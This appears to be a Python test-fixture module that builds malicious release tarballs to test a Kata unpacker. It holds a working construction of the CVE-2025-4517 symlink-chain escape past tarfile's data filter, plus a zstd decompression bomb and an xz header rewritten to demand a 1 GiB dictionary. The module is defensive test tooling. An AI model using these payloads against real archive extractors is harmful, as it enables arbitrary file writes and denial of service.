"""Hostile Kata release tarballs, made in a test's tmp_path: the synthetic release plus an attack.

`escape_chain` is CPython's own reproducer of CVE-2025-4517 (gh-135034,
`test_realpath_limit_attack`) moved below `opt/kata/bin/`: symlinked directories whose expansion
overflows PATH_MAX, so that `os.path.realpath`, on which tarfile's `data` filter relies before
3.11.13, stops expanding and judges the rest of the path lexically while the kernel follows every
link. `many_members` streams its members into the compressor, so a test of a large count stays
small in memory and on disk.
"""

from __future__ import annotations

import io
import lzma
import os
import tarfile
import zlib
from collections.abc import Iterable, Iterator
from pathlib import Path

import zstandard

from tests.kata import synthetic

Member = tuple[tarfile.TarInfo, bytes | None]
BIN = "./opt/kata/bin"
STEPS = "abcdefghijklmnop"
SCRATCH_NAME = ".kata-release-xxxxxxxx"  # tempfile.mkdtemp's name: 14 + 8 characters


def directory(name: str) -> Member:
    info = tarfile.TarInfo(name)
    info.type, info.mode = tarfile.DIRTYPE, 0o755
    return info, None


def symlink(name: str, target: str) -> Member:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = tarfile.SYMTYPE, target
    return info, None


def regular(name: str, content: bytes, mode: int = 0o644) -> Member:
    info = tarfile.TarInfo(name)
    info.size, info.mode = len(content), mode
    return info, content


def release_members() -> list[Member]:
    """The synthetic release's members, as `synthetic.tarball` writes them."""
    return list(synthetic._members(synthetic.files()))


def escape_chain(output: Path, target: Path) -> list[Member]:
    """Members that create `target` (an absolute path outside `output`) on unpacking into `output`.

    `bin/a -> ddd`, `bin/ddd/b -> ddd`, ... nest 16 long directories; `a/b/.../p/llll -> ../..`
    (16 times) is past PATH_MAX once expanded, so realpath leaves it and what follows unexpanded;
    `bin/escape -> a/b/.../p/llll/..` (20 times) then `/` + `target`'s directory is inside by
    realpath's reckoning and `/`'s subdirectory by the kernel's.
    """
    destination = len(str(output / SCRATCH_NAME / "opt/kata/bin"))
    max_path = os.pathconf(output, "PC_PATH_MAX")
    component = "d" * ((max_path - destination - 1) // (len(STEPS) + 1))
    members: list[Member] = []
    path = BIN
    for step in STEPS:
        members.append(directory(f"{path}/{component}"))
        members.append(symlink(f"{path}/{step}", component))
        path = f"{path}/{component}"
    linkpath = "/".join([*STEPS, "l" * 254])
    members.append(symlink(f"{BIN}/{linkpath}", "/".join([".."] * len(STEPS))))
    climb = "/".join([".."] * 20)
    members.append(symlink(f"{BIN}/escape", f"{linkpath}/{climb}{target.parent}"))
    members.append(regular(f"{BIN}/escape/{target.name}", b"written by a Kata release\n"))
    return members


def write(members: Iterable[Member], path: Path) -> Path:
    """A zstd-compressed tarball of `members`, streamed: nothing but one member is held at once."""
    with (
        path.open("wb") as file,
        zstandard.ZstdCompressor().stream_writer(file) as compressed,
        tarfile.open(fileobj=compressed, mode="w|") as archive,
    ):
        for info, content in members:
            archive.addfile(info, None if content is None else io.BytesIO(content))
    return path


def many_members(count: int) -> Iterator[Member]:
    """`count` empty files outside what a runtime uses (`opt/kata/libexec/`), then the release."""
    yield directory("./opt/kata/libexec/many")
    for index in range(count):
        yield regular(f"./opt/kata/libexec/many/{index:08d}", b"")
    yield from release_members()


def zstd_bomb(path: Path, name: str, size: int) -> Path:
    """The release with one member of `size` zero bytes at `name`, written without holding it."""
    chunk = bytes(1 << 20)
    with (
        path.open("wb") as file,
        zstandard.ZstdCompressor().stream_writer(file) as compressed,
        tarfile.open(fileobj=compressed, mode="w|") as archive,
    ):
        for info, content in release_members():
            archive.addfile(info, None if content is None else io.BytesIO(content))
        info = tarfile.TarInfo(name)
        info.size = size
        archive.addfile(info, _Zeros(size, chunk))
    return path


class _Zeros(io.RawIOBase):
    """`size` zero bytes, read in chunks (tarfile copies a member from a file object)."""

    def __init__(self, size: int, chunk: bytes) -> None:
        self.left = size
        self.chunk = chunk

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        count = min(self.left, len(self.chunk) if size < 0 else min(size, len(self.chunk)))
        self.left -= count
        return self.chunk[:count]


def xz_asking_for(data: bytes, dictionary_byte: int) -> bytes:
    """`data` as xz whose block header names another LZMA2 dictionary (`36`: 1 GiB), the window
    a decoder allocates, with the header's CRC32 made anew; compressing with a dictionary that
    large would take the encoder gigabytes."""
    xz = bytearray(lzma.compress(data))
    start = 12  # after the stream header
    size = (xz[start] + 1) * 4
    flags = xz[start + 1]
    offset = start + 2
    for present in (flags & 0x40, flags & 0x80):  # compressed and uncompressed size, varints
        if present:
            while xz[offset] & 0x80:
                offset += 1
            offset += 1
    assert xz[offset : offset + 2] == b"\x21\x01", "one LZMA2 filter with its one property byte"
    xz[offset + 2] = dictionary_byte
    end = start + size - 4
    xz[end : end + 4] = zlib.crc32(xz[start:end]).to_bytes(4, "little")
    return bytes(xz)
